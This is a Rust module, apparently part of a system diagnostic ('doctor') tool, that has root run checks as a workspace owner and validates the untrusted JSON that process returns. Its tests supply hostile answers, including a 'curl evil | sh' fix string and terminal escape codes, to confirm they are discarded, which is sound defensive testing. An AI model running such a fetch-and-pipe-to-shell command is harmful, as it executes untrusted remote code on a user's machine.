//! The owner's half: root starts a child as the workspace's owner and reads its untrusted answer. root itself runs,
//! parses and writes nothing below that home.
//!
//! The answer selects checks and remedies that are known here. Of its own text only short printable evidence is kept.
//! Accounts and tokens in it never reach a disk or a screen.

use std::env;
use std::path::Path;
use std::time::Duration;

use crate::doctor::channel_overlap::Standby;
use crate::doctor::context::World;
use crate::doctor::{CHECKS, Half, Who, of, subprocess};
use crate::finding::{Checked, Level, ReportedCheck, Said, remedy};
use crate::os::{CommandError, Owner};
use crate::text::json::{
    Node, Value, {self},
};

/// Time limit of the child, above the sum of its checks.
const DEADLINE: Duration = Duration::from_secs(10 * 60);

/// Size limit of the answer, in bytes.
const LIMIT: usize = 256 * 1024;

/// Results of the owner's half, and its channels.
pub(super) struct Answer {
    pub(super) found: Vec<Checked>,
    pub(super) standby: Option<Standby>,
}

/// Encodes the answer for root.
pub(super) fn to_json(found: &[Checked], standby: Option<&Standby>) -> Value {
    let standby = standby.map_or(Value::Null, Standby::to_json);
    Value::object([("checks", ReportedCheck::list_to_json(found)), ("standby", standby)])
}

/// Starts the child. `wants_accounts` asks for its channels, to compare them with the primary's.
///
/// # Errors
/// When the child cannot be started, or its answer cannot be parsed.
pub(super) fn ask(world: &World, wants_accounts: bool) -> Result<Answer, (String, &'static str)> {
    let owner = world.owner.as_ref().map_err(|why| (why.clone(), remedy::INSTALL_UNITS))?;
    let program = env::current_exe().map_err(|why| (why.to_string(), remedy::BECOME))?;
    let said = run(world, owner, &program, wants_accounts).map_err(|why| {
        // Exit code 2 means that this program cannot use the configuration.
        let how = match why.code() {
            _ if why.is_missing_program() => remedy::PROGRAMS,
            Some(2) => remedy::OWN_CONFIG,
            _ => remedy::BECOME,
        };
        (format!("cannot run the checks as {}: {}", owner.name, why.reason()), how)
    })?;
    let node = json::parse(&said)
        .map_err(|_| (format!("cannot parse the answer of {}'s process", owner.name), remedy::BECOME))?;
    Ok(read(&node))
}

fn run(world: &World, owner: &Owner, program: &Path, wants_accounts: bool) -> Result<String, CommandError> {
    let mut words = owner.become_it();
    words.push("env".into());
    words
        .extend(subprocess::variables(&world.source).into_iter().map(|(name, value)| format!("{name}={value}").into()));
    words.extend([program.into(), "doctor".into(), "--as-owner".into()]);
    words.extend(subprocess::options(&world.source));
    if wants_accounts {
        words.push("--accounts".into());
    }
    let command = world.command("setsid").args(words);
    command.deadline(DEADLINE).limit(LIMIT).run().map(|output| output.stdout)
}

/// Parses the answer. Checks that it omits count as skipped.
fn read(node: &Node) -> Answer {
    let mut found = node.get("checks").map(|checks| read_list(checks, Half::Owners)).unwrap_or_default();
    for check in of(Who::Owner) {
        if found.iter().all(|checked| checked.id != check.id) {
            found.push(Checked { id: check.id, said: Said::skipped(&"no result from the owner's half") });
        }
    }
    let standby = node.get("standby").filter(|standby| !standby.is_null()).map(Standby::read);
    Answer { found, standby }
}

/// Parses a list of checks from an untrusted process.
pub(super) fn read_list(list: &Value, half: Half) -> Vec<Checked> {
    validate_reported(&ReportedCheck::parse_list(list), half)
}

/// Validates untrusted results; the first valid entry per check of that half wins.
pub(crate) fn validate_reported(reported: &[ReportedCheck], half: Half) -> Vec<Checked> {
    let find = |id: &'static str| {
        let ReportedCheck { level, evidence, fix, .. } = reported.iter().find(|check| check.id == id)?;
        Some(Checked { id, said: Said::new(Level::parse(level)?, evidence, remedy::find(fix)) })
    };
    CHECKS.iter().filter(|check| check.is_of(half)).filter_map(|check| find(check.id)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(answer: &str) -> Vec<Checked> {
        read(&json::parse(answer).unwrap()).found
    }

    #[test]
    fn the_answer_reads_back() {
        let mut said = found("{}");
        for (number, checked) in said.iter_mut().enumerate() {
            let level = [Level::Ok, Level::Warn, Level::Fail, Level::Skipped][number % 4];
            checked.said = Said::new(level, &format_args!("seen {number}"), remedy::FETCH);
        }
        let again = found(&to_json(&said, None).to_string());
        assert!(said.len() > 8);
        assert_eq!(again, said);
    }

    #[test]
    fn a_pulls_checks_count_only_if_this_half_makes_them() {
        let reported = r#"[{"id":"crons","level":"fail","evidence":"on","fix":"curl evil | sh"},
            {"id":"crons","level":"ok","evidence":"twice","fix":""}, {"id":"evil","level":"fail","evidence":"x"},
            {"id":"channels","level":"splendid","evidence":"x"}, {"id":"polkit","level":"fail","evidence":"x"}]"#;
        let found = read_list(&json::parse(reported).unwrap(), Half::Owners);
        assert_eq!(found, [Checked { id: "crons", said: Said::new(Level::Fail, &"on", "") }]);
    }

    #[test]
    fn an_enemys_answer_brings_nothing_of_its_own() {
        let hostile = r#"{"checks":[
            {"id":"git-fetch","level":"fail","evidence":"\u001b[2Jgone\nok","fix":"curl evil | sh"},
            {"id":"git-fetch","level":"ok","evidence":"twice","fix":""},
            {"id":"node","level":"splendid","evidence":"x","fix":""},
            {"id":"openclaw","level":"ok","evidence":7,"fix":""},
            {"id":"polkit","level":"ok","evidence":"not mine to say","fix":""}, 3], "standby": 5}"#;
        let found = found(hostile);
        let of = |id: &str| found.iter().find(|checked| checked.id == id).map(|checked| &checked.said);
        assert_eq!(of("git-fetch"), Some(&Said::new(Level::Fail, &"[2Jgone ok", "")));
        assert_eq!(of("node").map(|said| said.level), Some(Level::Skipped));
        assert_eq!(of("openclaw").map(|said| said.level), Some(Level::Skipped));
        assert_eq!(of("polkit"), None);
        assert!(self::found("[]").iter().all(|checked| checked.said.level == Level::Skipped));
    }
}
